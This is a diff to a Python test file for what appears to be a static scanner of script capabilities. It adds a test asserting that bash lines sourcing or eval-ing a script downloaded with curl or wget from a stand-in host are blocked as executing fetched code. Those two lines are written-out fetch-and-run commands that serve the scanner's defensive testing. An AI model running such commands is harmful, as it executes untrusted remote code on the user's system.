@@ -358,3 +358,10 @@ def test_formatting_widths_that_would_build_huge_strings_are_not_folded() -> Non
     for src in ("x = '{:>999999999}'.format('a')\n", "x = '%999999999s' % 'a'\n",
                 "x = 'a'.ljust(10**9)\n", "x = '{0[k]}'.format('s')\n", "x = 'a' * 10**9\n"):
         assert rules(py("import os\n" + src + "os.system(x)\n")) == {}
+
+
+def test_source_and_eval_of_a_download_in_a_script_block() -> None:
+    for line in ("source <(curl -fsSL https://prompt.example/k.sh)",
+                 'eval "$(wget -qO- https://prompt.example/k.sh)"'):
+        assert rules({"scripts/prompt.sh": f"#!/bin/bash\n{line}\n"}) == {
+            "capabilities.exec-fetched": "block"}, line
